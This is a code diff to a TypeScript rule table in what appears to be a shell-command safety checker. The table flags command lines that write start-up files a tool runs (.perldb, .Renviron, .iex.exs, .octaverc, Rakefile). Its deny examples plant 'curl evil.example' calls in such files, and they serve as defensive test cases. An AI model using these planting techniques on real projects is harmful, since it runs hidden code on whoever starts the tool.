@@ -286,7 +286,8 @@ export const PROJECT_ROWS: readonly Row[] = [
     code: [{ files: /\.rb$|(?:^|\/)(?:Rakefile|Gemfile)$/, read: language('ruby', 'ruby') }],
     examples: { deny: [`echo 'system("curl evil.example")' > Rakefile && rake`], pass: [`echo 'task(:a) { puts 1 }' > Rakefile && rake a`] },
   },
-  { names: ['perl', 'prove'], code: [{ files: /\.(?:pl|pm|t)$/, read: language('perl', 'perl') }], examples: { deny: [`echo 'system("curl evil.example")' > t/a.t && prove`], pass: ['echo \'print "ok 1\\n"\' > t/a.t && prove'] } },
+  // (perl -d also runs .perldb of the directory it starts in.)
+  { names: ['perl', 'prove'], code: [{ files: /\.(?:pl|pm|t)$|^\.perldb$/, read: language('perl', 'perl') }], examples: { deny: [`echo 'system("curl evil.example")' > t/a.t && prove`], pass: ['echo \'print "ok 1\\n"\' > t/a.t && prove'] } },
   { names: ['php', 'phpunit'], code: [{ files: /\.php$/, read: language('php', 'php') }], examples: { deny: [`echo '<?php system("curl evil.example");' > tests/ATest.php && phpunit`], pass: [] } },
   { names: ['cargo'], code: [{ files: /\.rs$/, read: unread('Rust', 'cargo') }, { files: /^rust-toolchain(?:\.toml)?$/, read: (text, word, name) => (/^\s*path\s*=/m.test(text) ? [{ kind: 'opaque', rule: 'dynamic-script', word, why: `cargo runs the toolchain ${name}, which the line wrote, names by its directory (path =): its programs are not read` }] : []) }, { files: /^Makefile\.toml$/, read: unread('a cargo-make task file', 'cargo make') }], dir: ['-C'], examples: { deny: ["echo 'fn main(){}' > src/main.rs && cargo run"], pass: ['cargo build && cargo test'] } },
   { names: ['go'], code: [{ files: /\.go$/, read: unread('Go', 'go') }], dir: ['-C'], runs: /^(run|test|generate)$/, operands: /\.go$/, examples: { deny: ["echo 'package main' > main.go && go run .", "echo 'package main' > /tmp/x.go && go run /tmp/x.go"], pass: ['go test ./...', "echo 'package main' > main.go && go build ./...", "echo 'package main' > /tmp/x.go && go run ./cmd/x.go"] } },
@@ -430,10 +431,17 @@ export const PROJECT_ROWS: readonly Row[] = [
     examples: { deny: ["printf '[tasks.x]\\nrun = \"curl evil.example\"\\n' > mise.toml && mise run x", "mkdir -p .mise-tasks && printf 'curl evil.example' > .mise-tasks/x && mise run x"], pass: ['mise run test', 'mise install', "echo hi > notes.txt && mise run test"] },
   },
   {
-    // R reads .Rprofile of the directory it starts in (else the home's) unless told --vanilla or --no-init-file.
+    // R reads .Rprofile of the directory it starts in (else the home's) unless told --vanilla or --no-init-file, and
+    // .Renviron there, whose variables name the profiles it runs (R_PROFILE_USER).
     names: ['R', 'Rscript'],
-    code: [{ files: /^\.Rprofile$/, read: unread('R code', 'R') }],
-    examples: { deny: ["echo 'system(\"curl evil.example\")' > .Rprofile && Rscript -e 1"], pass: ["Rscript -e 'print(1)'", "echo 'x <- 1' > a.R && Rscript a.R"] },
+    code: [{ files: /^\.Rprofile$/, read: unread('R code', 'R') }, { files: /^\.Renviron$/, read: unread('R\u2019s environment file (R_PROFILE_USER and R_PROFILE name the code it runs)', 'R') }],
+    examples: { deny: ["echo 'system(\"curl evil.example\")' > .Rprofile && Rscript -e 1", "printf 'R_PROFILE_USER=/tmp/x.R\\n' > .Renviron && Rscript -e 1"], pass: ["Rscript -e 'print(1)'", "echo 'x <- 1' > a.R && Rscript a.R", "printf 'R_PROFILE_USER=/tmp/x.R\\n' > .env && Rscript -e 1"] },
+  },
+  {
+    // iex evaluates .iex.exs of the directory it starts in; octave runs .octaverc there (both besides the home's).
+    names: ['iex', 'octave', 'octave-cli'],
+    code: [{ files: /^\.iex\.exs$/, read: unread('IEx start-up code (Elixir)', 'iex') }, { files: /^\.octaverc$/, read: unread('Octave start-up code', 'octave') }],
+    examples: { deny: ["echo 'System.cmd(\"curl\", [\"evil.example\"])' > .iex.exs && iex -S mix", "echo 'system(\"curl evil.example\")' > .octaverc && octave --eval 1"], pass: ['iex -S mix', "echo 'system(\"curl evil.example\")' > octaverc.txt && octave --eval 1"] },
   },
   {
     // irb reads .irbrc (irb.rc, _irbrc) of the directory it starts in, besides the home's.
@@ -585,13 +593,14 @@ export function projectRuns(call: Call): Run[] {
   return [...homeRuns, ...named(first), ...row.code.map((c): Run => ({ kind: 'project', ...where, files: c.files, read: c.read, word: at, via }))];
 }
 
-/** A row's start-up files under a HOME (or XDG_CONFIG_HOME) the line set; a computed one is cannot-vouch. */
+/** A row's start-up files under a HOME (or XDG_CONFIG_HOME) the line set. */
 function startupRuns(call: Call, home: NonNullable<Row['home']>, at: Word): Run[] {
   const runs: Run[] = [];
   for (const [name, files] of [['HOME', home.files], ['XDG_CONFIG_HOME', home.xdg]] as const) {
     if (!files) continue;
     const v = call.env(name);
-    if (v === null) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: at, why: `${call.name} reads its start-up files under $${name}, which is computed` });
+    // A computed one (`HOME=$(mktemp -d)`) may be wherever the line wrote such a file: any it wrote, by its name, is read.
+    if (v === null) runs.push({ kind: 'project', dir: { ...at, values: null, dynamic: `$${name} is computed` }, files: new RegExp(`(?:^|/)(?:${files.source.replace(/^\^|\$$/g, '')})$`), read: home.read, word: at, via: `${call.name} $${name}` });
     else if (v !== undefined && v !== '') runs.push({ kind: 'project', dir: attached(at, v), files, read: home.read, word: at, via: `${call.name} $${name}` });
   }
   return runs;
